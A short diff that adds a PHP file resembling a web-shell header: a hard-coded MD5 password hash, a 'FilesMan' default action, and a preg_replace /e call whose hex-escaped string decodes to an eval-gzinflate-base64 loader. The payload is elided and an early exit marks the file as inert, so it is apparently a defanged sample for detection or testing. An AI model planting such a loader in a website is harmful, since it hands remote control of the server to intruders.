@@ -1,0 +1,5 @@
+<?php exit; /* inert */ $auth_pass = "21232f297a57a5a743894a0e4a801fc3";
+$color = "#df5";
+$default_action = 'FilesMan';
+$default_use_ajax = true;
+preg_replace("/.*/e","\x65\x76\x61\x6C\x28\x67\x7A\x69\x6E\x66\x6C\x61\x74\x65\x28\x62\x61\x73\x65\x36\x34\x5F\x64\x65\x63\x6F\x64\x65\x28'ELIDED'\x29\x29\x29\x3B",".");
